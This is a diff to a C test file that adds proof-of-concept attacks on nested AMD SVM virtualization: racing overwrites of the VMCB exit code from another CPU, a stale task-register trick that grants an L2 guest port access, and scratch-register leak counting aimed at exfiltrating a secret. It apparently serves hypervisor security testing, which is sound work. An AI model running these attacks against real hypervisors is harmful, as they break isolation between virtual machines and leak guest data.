@@ -5,15 +5,21 @@
  */
 #include "svm.h"
 
-enum { COM1 = 0x3f8, COM1_LSR = 0x3fd };
+enum { COM1 = 0x3f8, COM1_LSR = 0x3fd, COM1_SCR = 0x3ff, OWN_SCRATCH = 0x77 };
 static const char secret[] = "<the secret>";
+
+/* From the start of the code that set_up_late() put there. */
+static void rewind_late(struct l2 *l2, uint64_t turns) {
+    l2->vmcb->rip = L2_CODE;
+    l2->regs.r[RCX] = turns;
+    l2->regs.r[RBX] = sizeof secret - 1;
+    l2->regs.r[RSI] = L2_DATA;
+}
 
 static void set_up_late(struct l2 *l2, uint64_t turns) {
     L2_LOAD(l2, l2_late);
     memcpy(l2->memory + L2_DATA, secret, sizeof secret);
-    l2->regs.r[RCX] = turns;
-    l2->regs.r[RBX] = sizeof secret - 1;
-    l2->regs.r[RSI] = L2_DATA;
+    rewind_late(l2, turns);
 }
 
 static void run_and_tell(struct l2 *l2) {
@@ -36,8 +42,10 @@ static void start(void (*function)(void)) {
 }
 
 static void overwrite_exit_code(void) {
-    for (running = true;;)
+    for (running = true; !stop;)
         ((volatile struct vmcb *)target)->exit_code = 0;
+    for (;;)
+        __asm__ volatile("hlt");
 }
 
 /* While L2 runs, another CPU writes into EXITCODE; L2 then goes on in code that was never run. */
@@ -49,6 +57,41 @@ ATTACK(exit_code_overwritten) {
     start(overwrite_exit_code);
     set_up_late(l2, 20000000);
     run_and_tell(l2);
+}
+
+/* The same with an L2 of L1's own that shares the user's code; then the user's L2 runs that code, undisturbed. */
+ATTACK(poisoned_block) {
+    enum { TURNS = 20000000 };
+    struct l2 *l2 = l2_new();
+    struct vmcb *users = l2->vmcb;
+
+    l2_say(l2, "L2 begins\n");
+    l2_new_vmcb(l2);
+    target = l2->vmcb;
+    start(overwrite_exit_code);
+    set_up_late(l2, TURNS);
+    run_and_tell(l2);
+    stop = true;
+    l2->vmcb = users;
+    rewind_late(l2, 1);
+    print("users_");
+    run_and_tell(l2);
+}
+
+/* L2's user may use the port: so says its TSS. L1 loads TR from one VMCB, and runs another that names none. */
+ATTACK(stale_task_register) {
+    struct l2 *l2 = l2_new();
+    struct vmcb *other = pages(1);
+
+    l2_say(l2, "L2 begins\n");
+    l2_set_mode(l2, MODE_LONG, 3, 0);
+    L2_LOAD(l2, l2_secret);
+    memset(l2->memory + L2_TSS + 0x68 + COM1 / 8, 0, 1);
+    memcpy(other, l2->vmcb, PAGE);
+    l2->vmcb->tr = (struct segment){0};
+    __asm__ volatile("vmload %0" : : "a"(other) : "memory");
+    ((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
+    print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
 }
 
 static void copy_to_read_only(const struct vmcb *vmcb, void *where) {
@@ -84,7 +127,7 @@ ATTACK(addr32_vmrun) {
     l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
     /* the registers that L2 gets from here are those of a C function: its own code sets them */
     L2_LOAD(l2, l2_secret);
-    ((uint64_t(*)(uint64_t, uint64_t))(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
+    ((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
     print("\nended=1\n");
 }
 
@@ -146,14 +189,17 @@ static void restore_exit_code(void) {
  * once more, without the other CPU. What reaches the console instead of L1's own port is an 'X' for each try. */
 enum { STUB_STEP = 128 };
 
-static void run_stubs(struct l2 *l2, uint8_t *code, uint64_t tries) {
+static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t tries) {
+    uint64_t foreign = 0; /* scratch registers that were not L1's own */
+
     L2_LOAD(l2, l2_pause);
     for (uint64_t i = 0; i < tries; i++) {
         l2->vmcb->rip = L2_CODE;
-        ((uint64_t(*)(uint64_t, uint64_t))(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80);
+        foreign += ((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
         while (!(in8(COM1_LSR) & 0x20))
             ;
     }
+    return foreign;
 }
 
 ATTACK(exit_code_restored) {
@@ -164,12 +210,13 @@ ATTACK(exit_code_restored) {
     for (uint64_t i = 0; i < tries; i++)
         memcpy(code + i * STUB_STEP, stub, (size_t)(stub_end - stub));
     l2_say(l2, "L2 begins\n");
+    out8(COM1_SCR, OWN_SCRATCH);
     target = l2->vmcb;
     start(restore_exit_code);
-    run_stubs(l2, code, tries);
+    print("\nforeign=%u\n", run_stubs(l2, code, tries));
     stop = true;
     wait_ticks(1);
     l2_say(l2, "\nL2 again\n");
-    run_stubs(l2, code, tries);
+    print("\nforeign_again=%u\n", run_stubs(l2, code, tries));
     print("\ntries=%u\n", tries);
 }
